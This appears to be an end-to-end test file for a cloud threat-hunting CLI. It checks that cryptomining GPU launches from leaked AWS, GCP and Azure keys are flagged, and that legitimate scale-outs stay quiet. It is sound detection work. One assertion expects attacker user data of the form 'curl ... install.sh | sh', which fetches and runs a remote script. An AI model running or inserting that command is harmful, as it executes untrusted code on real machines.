/**
 * End to end, issue 14 acceptance 2 and 3: the AN0744 scenarios in test/fixtures/scenarios/cloud/ (AWS:
 * CloudTrail with 3 days of routine history, VPC flow logs, Route 53 Resolver query logs, CloudWatch
 * get-metric-data; Google Cloud: audit LogEntries, VPC flow LogEntries, Monitoring timeSeries; Azure: Activity
 * Log, VNet flow logs, Azure Monitor metrics; see its README) through the real CLI, `hunt DIR --format
 * ndjson`, one run per scenario.
 * Positives: the leaked key's 20 GPU miners are one high finding with the launch facts, cost and AWS plan;
 * without network logs medium with the gap named; the denied GPU launch alone low, named as an attempt.
 * Negatives: legitimate launches under load raise nothing above informational; each negative's own files
 * are checked to hold the pinned CPU and the launch it claims, so "no finding" is not a scenario never read.
 */
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import type { Finding } from '../../src/model/finding.js';
import { ndjsonFindings, runCli } from '../support/cli.js';

const SCENARIOS = join(import.meta.dirname, '..', 'fixtures', 'scenarios', 'cloud');
const POLICIES: Record<string, string> = { 'aws-terraform-gpu': join(SCENARIOS, 'aws-terraform-gpu-policy.yaml') };
const ACCOUNT = '123456789012';
const LEAKED = `arn:aws:iam::${ACCOUNT}:user/ci-backup`;
const LEAKED_KEY = 'AKIA3EXAMPLELEAKED01';

/** The source each file of a scenario is written in (by the name the generator gives it). */
function formatOf(file: string): string {
  if (file.startsWith('cloudtrail')) return 'cloudtrail';
  if (file === 'vpc-flow.log') return 'vpc-flow';
  if (file === 'resolver-queries.log') return 'route53-resolver';
  if (file === 'cloudwatch-cpu.json') return 'cloudwatch-metrics';
  if (file.startsWith('cloudaudit-')) return 'gcp-audit';
  if (file === 'vpc_flows.json') return 'gcp-flow';
  if (file === 'cpu-utilization.json') return 'gcp-monitoring';
  if (file.startsWith('activity-log')) return 'azure-activity';
  if (file === 'vnet-flow.json') return 'azure-flow';
  if (file.startsWith('cpu-metrics.json')) return 'azure-metrics';
  throw new Error(`unexpected file ${file} in a cloud scenario`);
}

interface Run {
  findings: Finding[];
  stderr: string;
}

const runs = new Map<string, Run>();

/** `hunt DIR --format ndjson`: exit 0, every file read by its own source, no bad record. */
function huntDir(dir: string, label: string, policy?: string): Run {
  const r = runCli(['hunt', dir, '--format', 'ndjson', ...(policy ? ['--policy', policy] : [])]);
  assert.equal(r.code, 0, r.stderr);
  assert.doesNotMatch(r.stderr, /bad input|not read/, `${label}: every record is read\n${r.stderr}`);
  const formats = new Map<string, number>();
  for (const file of readdirSync(dir)) formats.set(formatOf(file), (formats.get(formatOf(file)) ?? 0) + 1);
  const files = [...formats.values()].reduce((a, b) => a + b, 0);
  assert.match(r.stderr, new RegExp(`coalmine: ${files} files \\(`), r.stderr);
  for (const [format, n] of formats)
    assert.match(r.stderr, new RegExp(`\\b${format} ${n}\\b`), `${label}: ${format}\n${r.stderr}`);
  return { findings: ndjsonFindings(r.stdout), stderr: r.stderr };
}

function hunt(name: string): Run {
  const cached = runs.get(name);
  if (cached) return cached;
  const run = huntDir(join(SCENARIOS, name), name, POLICIES[name]);
  runs.set(name, run);
  return run;
}

/** The one AN0744 finding of a positive scenario, and nothing else above informational. */
function an0744(run: Run, label: string): Finding {
  const raised = run.findings.filter((f) => f.severity !== 'informational');
  assert.equal(raised.length, 1, `${label}: one finding\n${JSON.stringify(raised, null, 1)}`);
  assert.equal(raised[0].analytic, 'AN0744');
  return raised[0];
}

type TrailRecord = {
  eventName: string;
  errorCode?: string;
  requestParameters: { instanceType?: string } | null;
  responseElements: { instancesSet: { items: Array<{ instanceId: string }> } } | null;
};

/** The incident hour's CloudTrail records of a scenario. */
function trail(name: string): TrailRecord[] {
  return (JSON.parse(readFileSync(join(SCENARIOS, name, 'cloudtrail.json'), 'utf8')) as { Records: TrailRecord[] })
    .Records;
}

/** Instance ids the scenario's incident-hour RunInstances calls returned. */
function launched(name: string): string[] {
  return trail(name)
    .filter((r) => r.eventName === 'RunInstances' && r.responseElements)
    .flatMap((r) => r.responseElements?.instancesSet.items.map((i) => i.instanceId) ?? []);
}

function list(f: Finding, fact: string): string[] {
  const v = f.facts[fact];
  assert.ok(Array.isArray(v), `facts.${fact} is a list: ${JSON.stringify(f.facts)}`);
  return v;
}

function containmentCommands(f: Finding): string[] {
  assert.ok(f.triage, 'the playbook ran');
  return f.triage.containment.steps.flatMap((s) => s.commands);
}

/** Leaked-key facts shared by the high and the medium story. */
function assertLeakedKeyLaunch(f: Finding, name: string): void {
  assert.equal(f.facts.provider, 'aws');
  assert.equal(f.facts.account, ACCOUNT);
  assert.equal(f.facts.region, 'ap-southeast-3');
  assert.equal(f.facts.principal, LEAKED);
  assert.equal(f.facts.access_key_id, LEAKED_KEY);
  assert.equal(f.facts.source_ip, '203.0.113.77');
  assert.deepEqual(list(f, 'instance_types'), ['g4dn.xlarge']);
  assert.equal(f.facts.instance_count, 20);
  assert.equal(f.facts.launch_operation, 'RunInstances');
  assert.match(String(f.facts.user_data), /curl -fsSL http:\/\/198\.51\.100\.23\/x\/install\.sh \| sh/);
  const ids = launched(name);
  assert.equal(ids.length, 20);
  const listed = list(f, 'instances');
  assert.ok(listed.length > 0 && listed.every((id) => ids.includes(id)), JSON.stringify(listed));
  assert.ok(f.entity === `instance:aws:${listed[0]}` || f.entity.startsWith(`instance:aws:${ACCOUNT}:`), f.entity);
  // judged against the 3 days of history: a first-seen key launching GPUs in a first-seen region
  assert.match(String(f.facts.authorization), /first launch by arn:aws:iam::123456789012:user\/ci-backup/);
  assert.match(String(f.facts.authorization), /region ap-southeast-3 first used in the account/);
  assert.match(String(f.facts.authorization), /3 days of audit history/);
  assert.equal(f.triage?.escalation.tier, 'Tier 2');
  const cost = f.triage?.cost;
  assert.ok(cost && (cost.instance_hours ?? 0) > 15 && cost.amount > 0, JSON.stringify(cost));
  const commands = containmentCommands(f);
  for (const wanted of [
    new RegExp(`aws iam update-access-key --status Inactive --access-key-id ${LEAKED_KEY}\\b`),
    /aws ec2 stop-instances --region ap-southeast-3 --instance-ids/,
    /create-security-group --region ap-southeast-3/,
    /describe-regions/,
  ])
    assert.ok(
      commands.some((c) => wanted.test(c)),
      `${wanted} in the plan:\n${commands.join('\n')}`,
    );
}

test('a leaked key launching 20 GPU miners in a new region, with pool flows, lookups and CPU pinned: one high AN0744 finding', () => {
  const f = an0744(hunt('aws-leaked-key'), 'aws-leaked-key');
  assert.equal(f.severity, 'high');
  assert.deepEqual([...f.legs].sort(), ['authorization', 'reach', 'resource']);
  assert.deepEqual(f.gaps, []);
  assertLeakedKeyLaunch(f, 'aws-leaked-key');
  // each leg cites the file that said so
  const cited = (kind: string, file: RegExp) =>
    assert.ok(
      f.evidence.some((e) => e.kind === kind && file.test(e.source)),
      `${kind} from ${file}: ${f.evidence.map((e) => `${e.kind} ${e.source}`).join(', ')}`,
    );
  cited('unauthorized-launch', /aws-leaked-key\/cloudtrail\.json:\d+$/);
  cited('pool-contact', /aws-leaked-key\/resolver-queries\.log:\d+$/);
  cited('mining-port', /aws-leaked-key\/vpc-flow\.log:\d+$/);
  assert.ok(
    f.evidence.some((e) => e.kind === 'sustained-cpu' && /pinned from launch/.test(e.explanation)),
    JSON.stringify(f.evidence.map((e) => e.explanation)),
  );
  assert.ok(list(f, 'destinations').includes('203.0.113.10:3333'), JSON.stringify(f.facts.destinations));
  assert.ok((f.facts.cpu_pct_peak as number) >= 97, String(f.facts.cpu_pct_peak));
});

test('the same story without flow or DNS logs is medium and names the missing network logs', () => {
  const f = an0744(hunt('aws-leaked-key-noflows'), 'aws-leaked-key-noflows');
  assert.equal(f.severity, 'medium');
  assert.deepEqual([...f.legs].sort(), ['authorization', 'resource']);
  assert.ok(
    f.gaps.some((g) => /no flow or DNS logs for aws account 123456789012 ap-southeast-3/.test(g)),
    `a gap names the missing flow and DNS logs: ${JSON.stringify(f.gaps)}`,
  );
  assertLeakedKeyLaunch(f, 'aws-leaked-key-noflows');
});

test('the denied GPU launch alone is low, named as an attempt, with the gaps that would decide it', () => {
  const [call] = trail('aws-denied-gpu');
  assert.equal(call.errorCode, 'Client.UnauthorizedOperation');
  const f = an0744(hunt('aws-denied-gpu'), 'aws-denied-gpu');
  assert.equal(f.severity, 'low');
  assert.deepEqual(f.legs, ['authorization']);
  assert.match(
    f.title,
    /^Denied cloud launch: an attempt to launch 8 p3\.16xlarge in aws account 123456789012 ap-southeast-3 by /,
  );
  assert.equal(f.facts.principal, LEAKED);
  assert.equal(f.facts.access_key_id, LEAKED_KEY);
  assert.equal(f.facts.denied_requests, 1);
  assert.deepEqual(list(f, 'instance_types'), ['p3.16xlarge']);
  assert.equal(f.facts.instances, undefined, 'no instance was made');
  assert.match(String(f.facts.authorization), /denied by the provider \(Client\.UnauthorizedOperation\)/);
  assert.ok(
    f.gaps.some((g) => /no flow or DNS logs/.test(g)),
    JSON.stringify(f.gaps),
  );
  assert.ok(
    f.gaps.some((g) => /no instance CPU metrics/.test(g)),
    JSON.stringify(f.gaps),
  );
  assert.equal(f.triage?.escalation.tier, 'Tier 2');
});

/** Instances whose CloudWatch CPU stayed at ≥ 85% for at least `minutes`. */
function pinnedInstances(name: string, minutes: number): string[] {
  const doc = JSON.parse(readFileSync(join(SCENARIOS, name, 'cloudwatch-cpu.json'), 'utf8')) as {
    MetricDataResults: Array<{ Label: string; Timestamps: string[]; Values: number[] }>;
  };
  const pinned: string[] = [];
  for (const r of doc.MetricDataResults) {
    const points = r.Timestamps.map((t, i) => [Date.parse(t), r.Values[i]] as const).sort((a, b) => a[0] - b[0]);
    let since: number | undefined;
    for (const [t, v] of points) {
      if (v < 85) since = undefined;
      else since ??= t;
      if (since !== undefined && t - since >= minutes * 60_000) {
        pinned.push(r.Label.split(' ')[0]);
        break;
      }
    }
  }
  return pinned;
}

const NEGATIVES: Array<{ name: string; minutes: number; launches: boolean }> = [
  { name: 'aws-asg-scale-out', minutes: 30, launches: true },
  { name: 'aws-terraform-gpu', minutes: 30, launches: true },
  { name: 'aws-nightly-batch', minutes: 30, launches: true },
  { name: 'aws-spot-replacement', minutes: 15, launches: true },
  { name: 'aws-busy-server', minutes: 14 * 24 * 60 - 60, launches: false },
];

for (const { name, minutes, launches } of NEGATIVES) {
  test(`negative ${name}: legitimate compute under load raises nothing above informational`, () => {
    const hot = pinnedInstances(name, minutes);
    const ids = launches ? launched(name) : hot;
    assert.ok(ids.length > 0, `${name}: the scenario launches what it is about`);
    assert.ok(
      ids.every((id) => hot.includes(id)),
      `${name}: each instance it is about is pinned for ${minutes} minutes: ${JSON.stringify({ ids, hot })}`,
    );
    const { findings } = hunt(name);
    const raised = findings.filter((f) => f.severity !== 'informational');
    assert.deepEqual(
      raised.map((f) => `${f.severity} ${f.analytic} ${f.entity}: ${f.title}`),
      [],
      JSON.stringify(raised, null, 1),
    );
  });
}

test('control: without its cloud: policy the Terraform GPU launch is reported, so the policy is what approved it', () => {
  const run = huntDir(join(SCENARIOS, 'aws-terraform-gpu'), 'aws-terraform-gpu without policy');
  const f = an0744(run, 'aws-terraform-gpu without policy');
  assert.equal(f.severity, 'medium');
  assert.deepEqual([...f.legs].sort(), ['authorization', 'resource']);
  assert.deepEqual(list(f, 'instance_types'), ['p4d.24xlarge']);
  assert.match(String(f.facts.authorization), /GPU or very large instances \(p4d\.24xlarge\)/);
});

// ---- Google Cloud and Azure negatives -------------------------------------------------------------------

function jsonLines<T>(file: string): T[] {
  return readFileSync(file, 'utf8')
    .split('\n')
    .filter((l) => l.trim() !== '')
    .map((l) => JSON.parse(l) as T);
}

/** The longest run of consecutive points at or above 85%, in minutes. */
function pinnedMinutes(points: Array<readonly [number, number]>): number {
  let best = 0;
  let since: number | undefined;
  for (const [t, v] of [...points].sort((a, b) => a[0] - b[0])) {
    if (v < 85) since = undefined;
    else {
      since ??= t;
      best = Math.max(best, (t - since) / 60_000);
    }
  }
  return best;
}

type GcpEntry = {
  operation?: { first?: boolean };
  protoPayload: {
    methodName: string;
    request?: { name?: string; count?: string; namePattern?: string };
  };
};

/** Names of the VMs a GCP scenario's incident-hour inserts and bulkInserts asked for (a namePattern's run of # is 1..count, zero-padded). */
function gcpLaunched(name: string): string[] {
  const entries = jsonLines<GcpEntry>(join(SCENARIOS, name, 'cloudaudit-activity.json'));
  return entries
    .filter((e) => e.operation?.first && /compute\.instances\.(?:insert|bulkInsert)$/.test(e.protoPayload.methodName))
    .flatMap((e) => {
      const r = e.protoPayload.request ?? {};
      if (r.namePattern === undefined) return r.name ? [r.name] : [];
      const hashes = /#+/.exec(r.namePattern)?.[0] ?? '';
      return Array.from({ length: Number(r.count) }, (_, k) =>
        (r.namePattern as string).replace(hashes, String(k + 1).padStart(hashes.length, '0')),
      );
    });
}

/** VMs whose Cloud Monitoring CPU stays at 85% or more for at least `minutes`, by instance name. */
function gcpPinned(name: string, minutes: number): string[] {
  const doc = JSON.parse(readFileSync(join(SCENARIOS, name, 'cpu-utilization.json'), 'utf8')) as {
    timeSeries: Array<{
      metric: { labels: { instance_name: string } };
      points: Array<{ interval: { endTime: string }; value: { doubleValue: number } }>;
    }>;
  };
  return doc.timeSeries
    .filter(
      (s) =>
        pinnedMinutes(s.points.map((p) => [Date.parse(p.interval.endTime), p.value.doubleValue * 100] as const)) >=
        minutes,
    )
    .map((s) => s.metric.labels.instance_name);
}

function assertQuiet(name: string): void {
  const raised = hunt(name).findings.filter((f) => f.severity !== 'informational');
  assert.deepEqual(
    raised.map((f) => `${f.severity} ${f.analytic} ${f.entity}: ${f.title}`),
    [],
    JSON.stringify(raised, null, 1),
  );
}

for (const name of ['gcp-mig-scale-out', 'gcp-batch-nightly']) {
  test(`negative ${name}: legitimate compute under load raises nothing above informational`, () => {
    const launched = gcpLaunched(name);
    const hot = gcpPinned(name, 30);
    assert.ok(launched.length >= 6, `${name}: the scenario launches what it is about: ${JSON.stringify(launched)}`);
    assert.ok(
      launched.every((vm) => hot.includes(vm)),
      `${name}: each VM it launches is pinned for 30 minutes: ${JSON.stringify({ launched, hot })}`,
    );
    assertQuiet(name);
  });
}

test('negative azure-vmss-autoscale: autoscale growing a scale set under load raises nothing above informational', () => {
  type Record = { operationName: string; resultType: string; properties: { requestbody?: string } };
  const writes = jsonLines<Record>(join(SCENARIOS, 'azure-vmss-autoscale', 'activity-log.json')).filter(
    (r) => r.operationName === 'MICROSOFT.COMPUTE/VIRTUALMACHINESCALESETS/WRITE' && r.resultType === 'Start',
  );
  assert.equal(writes.length, 1);
  const capacity = (JSON.parse(writes[0].properties.requestbody ?? '{}') as { sku: { capacity: number } }).sku.capacity;
  const doc = JSON.parse(readFileSync(join(SCENARIOS, 'azure-vmss-autoscale', 'cpu-metrics.json'), 'utf8')) as {
    value: Array<{
      timeseries: Array<{ data: Array<{ timeStamp: string; average?: number }>; metadatavalues: unknown[] }>;
    }>;
  };
  const pinned = doc.value[0].timeseries.filter(
    (s) =>
      pinnedMinutes(
        s.data.flatMap((d) => (d.average === undefined ? [] : [[Date.parse(d.timeStamp), d.average] as const])),
      ) >= 30,
  );
  assert.equal(pinned.length, capacity, 'every VM of the grown scale set is pinned for 30 minutes');
  assertQuiet('azure-vmss-autoscale');
});

// ---- Google Cloud and Azure positives (issue 14 acceptance 2: "same story on GCP and Azure → high") ------

/** The three legs, Tier 2, the launch facts, a cost and the provider's own containment commands. */
function assertHighLaunch(
  name: string,
  want: { provider: string; account: string; region: string; principal: string; type: string; commands: RegExp[] },
): Finding {
  const f = an0744(hunt(name), name);
  assert.equal(f.severity, 'high');
  assert.deepEqual([...f.legs].sort(), ['authorization', 'reach', 'resource']);
  assert.equal(f.facts.provider, want.provider);
  assert.equal(f.facts.account, want.account);
  assert.equal(f.facts.region, want.region);
  assert.equal(f.facts.principal, want.principal);
  assert.equal(f.facts.source_ip, '203.0.113.77');
  assert.deepEqual(list(f, 'instance_types'), [want.type]);
  assert.equal(f.facts.instance_count, 20);
  assert.match(String(f.facts.authorization), /3 days of audit history/);
  assert.match(String(f.facts.authorization), new RegExp(`region ${want.region} first used in the account`));
  assert.ok(list(f, 'destinations').includes('203.0.113.10:3333'), JSON.stringify(f.facts.destinations));
  assert.equal(f.triage?.escalation.tier, 'Tier 2');
  const cost = f.triage?.cost;
  assert.ok(cost && (cost.instance_hours ?? 0) > 15 && cost.amount > 0, JSON.stringify(cost));
  const commands = containmentCommands(f);
  for (const wanted of want.commands)
    assert.ok(
      commands.some((c) => wanted.test(c)),
      `${wanted} in the plan:\n${commands.join('\n')}`,
    );
  return f;
}

test('GCP: a leaked service-account key bulk-creating 20 GPU miners in a new region, with pool flows and CPU pinned: one high AN0744 finding', () => {
  const f = assertHighLaunch('gcp-leaked-key', {
    provider: 'gcp',
    account: 'acme-prod-421337',
    region: 'asia-northeast3',
    principal: 'ci-backup@acme-prod-421337.iam.gserviceaccount.com',
    type: 'a2-highgpu-1g',
    commands: [
      /gcloud iam service-accounts keys disable \w+ --iam-account/,
      /gcloud compute disks snapshot/,
      /gcloud compute instances stop/,
    ],
  });
  assert.equal(f.facts.launch_operation, 'v1.compute.instances.bulkInsert');
  assert.match(String(f.facts.access_key_id), /^[0-9a-f]{40}$/);
});

test('Azure: a leaked service principal creating 20 GPU VMs in a new region, with pool flows and CPU pinned: one high AN0744 finding', () => {
  const f = assertHighLaunch('azure-leaked-key', {
    provider: 'azure',
    account: '6d4f2a1c-3b5e-4c7d-9e8f-1a2b3c4d5e6f',
    region: 'koreacentral',
    principal: 'c3b2a1f0-e9d8-4c7b-a6f5-e4d3c2b1a0f9',
    type: 'Standard_NC4as_T4_v3',
    commands: [
      /az ad sp credential reset --id 8e1d2c3b-4a5f-4b6e-9d7c-0a1b2c3d4e5f/,
      /az snapshot create/,
      /az vm deallocate --ids/,
    ],
  });
  assert.equal(f.facts.access_key_id, '8e1d2c3b-4a5f-4b6e-9d7c-0a1b2c3d4e5f');
});
